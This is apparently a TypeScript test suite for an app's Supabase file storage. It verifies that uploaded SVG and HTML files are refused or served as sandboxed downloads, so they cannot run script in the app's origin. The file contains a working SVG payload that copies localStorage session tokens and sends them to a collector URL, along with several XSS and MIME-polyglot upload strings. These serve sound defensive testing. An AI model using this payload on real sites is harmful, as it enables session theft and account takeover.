import assert from 'node:assert/strict';
import { after, before, describe, test } from 'node:test';
import { createClient } from '@supabase/supabase-js';
import type { Browser, Page } from 'playwright-core';
import { launchBrowser } from '../e2e/support/browser.ts';
import { makePng } from '../e2e/support/png.ts';
import { startTestServer, testBackends, type TestServer } from '../support/server.ts';
import { startOtherOrigin, type OtherOrigin } from './support.ts';

const openBucket = 'open-files';
const sessionKey = 'sb-localhost-auth-token';

/** An SVG whose script copies the session of whoever opens it, into storage and to a collector. */
const hostileSvg = (collector: string) => `<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>
  const loot = JSON.stringify(localStorage);
  try { localStorage.setItem('stolen', loot); } catch (error) {}
  fetch(${JSON.stringify(`${collector}/steal`)} + '?' + encodeURIComponent(loot), { mode: 'no-cors' });
</script></svg>`;

interface Member {
  id: string;
  email: string;
  token: string;
  session: unknown;
}

async function member(server: TestServer, label: string): Promise<Member> {
  const email = `${label}-${Date.now().toString(36)}@example.com`;
  const password = 'stored-file-test-1';
  const created = await server.admin().auth.admin.createUser({ email, password, email_confirm: true });
  assert.equal(created.error, null);
  const signedIn = await server.client().auth.signInWithPassword({ email, password });
  assert.ok(signedIn.data.session);
  return { id: signedIn.data.session.user.id, email, token: signedIn.data.session.access_token, session: signedIn.data.session };
}

/** Opens a URL as a tab would; an attachment starts a download instead of a page (goto then fails). */
async function openAsDownload(page: Page, url: string): Promise<string> {
  const [download] = await Promise.all([page.waitForEvent('download'), page.goto(url).catch(() => null)]);
  return download.suggestedFilename();
}

for (const backend of testBackends()) {
  describe(`stored files cannot run script in the app's origin on ${backend}`, () => {
    let server: TestServer;
    let browser: Browser;
    let collector: OtherOrigin;
    let ada: Member;
    let ben: Member;

    before(async () => {
      server = await startTestServer(backend);
      collector = await startOtherOrigin('<!doctype html><title>collector</title>');
      // A bucket that takes any type (as a project might have for documents), writable by members.
      assert.equal((await server.admin().storage.createBucket(openBucket, { public: true })).error, null);
      await server.db.transaction({ kind: 'system' }, (tx) =>
        tx.query(
          `create policy "members upload open files" on storage.objects for insert to authenticated with check (bucket_id = '${openBucket}')`,
        ),
      );
      ada = await member(server, 'ada');
      ben = await member(server, 'ben');
      browser = await launchBrowser();
    });
    after(async () => {
      await browser?.close();
      await collector?.close();
      await server?.close();
    });

    const asMember = (who: Member) => createClient(server.url, server.anonKey, { accessToken: async () => who.token }).storage;

    test("Pinstar's buckets refuse SVG, HTML, two types in one, and bytes that are not a raster image", async () => {
      const svg = hostileSvg(collector.url);
      for (const bucket of ['avatars', 'place-photos']) {
        for (const [type, body] of [
          ['image/svg+xml', svg],
          ['text/html', '<script>alert(1)</script>'],
          ['image/png; text/html', makePng(2, 2)],
          ['image/png, text/html', makePng(2, 2)],
          ['image/png', '<html><script>alert(1)</script></html>'],
          ['image/jpeg', '%PDF-1.7 <script>alert(1)</script>'],
        ] as const) {
          const response = await fetch(`${server.url}/storage/v1/object/${bucket}/${ada.id}/attack`, {
            method: 'POST',
            headers: { Authorization: `Bearer ${ada.token}`, apikey: server.anonKey, 'Content-Type': type },
            body,
          });
          assert.equal(response.status, 400, `${bucket} ${type}`);
          assert.deepEqual(
            await response.json(),
            { statusCode: '415', code: 'InvalidMimeType', error: 'invalid_mime_type', message: `mime type ${type} is not supported` },
            `${bucket} ${type}`,
          );
        }
      }
      const png = await fetch(`${server.url}/storage/v1/object/avatars/${ada.id}/ok.png`, {
        method: 'POST',
        headers: { Authorization: `Bearer ${ada.token}`, apikey: server.anonKey, 'Content-Type': 'image/png' },
        body: makePng(2, 2),
      });
      assert.equal(png.status, 200);
    });

    test('every download route sends nosniff and a script-free sandbox; SVG and HTML only as attachments', async () => {
      const storage = asMember(ada);
      assert.equal(
        (await storage.from(openBucket).upload(`${ada.id}/evil.svg`, hostileSvg(collector.url), { contentType: 'image/svg+xml' })).error,
        null,
      );
      assert.equal(
        (await storage.from(openBucket).upload(`${ada.id}/evil.html`, '<script>alert(1)</script>', { contentType: 'text/html' })).error,
        null,
      );
      const signed = await server.admin().storage.from(openBucket).createSignedUrl(`${ada.id}/evil.svg`, 60);
      const auth = { Authorization: `Bearer ${server.serviceRoleKey}`, apikey: server.serviceRoleKey };
      const svgRoutes: [string, RequestInit][] = [
        [`${server.url}/storage/v1/object/public/${openBucket}/${ada.id}/evil.svg`, {}],
        [`${server.url}/storage/v1/object/authenticated/${openBucket}/${ada.id}/evil.svg`, { headers: auth }],
        [`${server.url}/storage/v1/object/${openBucket}/${ada.id}/evil.svg`, { headers: auth }],
        [signed.data?.signedUrl ?? '', {}],
        [`${server.url}/storage/v1/object/public/${openBucket}/${ada.id}/evil.svg`, { method: 'HEAD' }],
        [`${server.url}/storage/v1/object/public/${openBucket}/${ada.id}/evil.html`, {}],
      ];
      for (const [url, init] of svgRoutes) {
        const response = await fetch(url, init);
        assert.equal(response.status, 200, url);
        assert.equal(response.headers.get('x-content-type-options'), 'nosniff', url);
        assert.equal(response.headers.get('content-security-policy'), "default-src 'none'; sandbox", url);
        assert.match(response.headers.get('content-disposition') ?? '', /^attachment/, url);
      }
      const image = await fetch(`${server.url}/storage/v1/object/public/avatars/${ada.id}/ok.png`);
      assert.equal(image.headers.get('content-security-policy'), "default-src 'none'; sandbox");
      assert.equal(image.headers.get('content-disposition'), null);
      // Image transformations are on (Pinstar's photos are drawn through them): an SVG source is
      // refused with the renderer's JSON error, never rendered or passed through as SVG.
      const render = await fetch(`${server.url}/storage/v1/render/image/public/${openBucket}/${ada.id}/evil.svg?width=64`);
      assert.equal(render.status, 400);
      assert.match(render.headers.get('content-type') ?? '', /^application\/json/);
      assert.doesNotMatch(await render.text(), /<svg|<script/i);
    });

    test("ben opens ada's SVG in the app's origin: no script runs, his session stays his", async () => {
      const context = await browser.newContext({ acceptDownloads: true });
      const page = await context.newPage();
      page.setDefaultTimeout(20_000);
      const exfiltrations: string[] = [];
      page.on('request', (request) => {
        if (request.url().includes('/steal')) exfiltrations.push(request.url());
      });
      await page.goto(`${server.url}/_server/health`);
      await page.evaluate(`localStorage.setItem(${JSON.stringify(sessionKey)}, ${JSON.stringify(JSON.stringify(ben.session))})`);
      const url = `${server.url}/storage/v1/object/public/${openBucket}/${ada.id}/evil.svg`;

      assert.equal(await openAsDownload(page, url), 'evil.svg');
      await page.goto(`${server.url}/_server/health`);
      // Embedded in a page of the origin, it downloads too; as an image, its script never runs.
      await page.evaluate(`new Promise((resolve) => {
        const img = document.createElement('img');
        img.onload = img.onerror = resolve;
        img.src = ${JSON.stringify(url)};
        document.body.append(img);
      })`);
      assert.equal(await page.evaluate<string | null>(`localStorage.getItem('stolen')`), null);
      assert.ok(await page.evaluate<string | null>(`localStorage.getItem(${JSON.stringify(sessionKey)})`));
      assert.deepEqual(
        collector.hits.filter((hit) => hit.includes('/steal')),
        [],
      );
      assert.deepEqual(exfiltrations, []);
      await context.close();

      // Control: the same file served inline from another origin does run (it sends the loot) — the payload is real.
      const control = await startOtherOrigin(hostileSvg(collector.url));
      try {
        const other = await browser.newContext();
        const otherPage = await other.newPage();
        otherPage.setDefaultTimeout(20_000);
        await otherPage.route(`${control.url}/`, (route) =>
          route.fulfill({ contentType: 'image/svg+xml', body: hostileSvg(collector.url) }),
        );
        await Promise.all([otherPage.waitForRequest((request) => request.url().includes('/steal')), otherPage.goto(`${control.url}/`)]);
        await other.close();
      } finally {
        await control.close();
      }
    });
  });
}
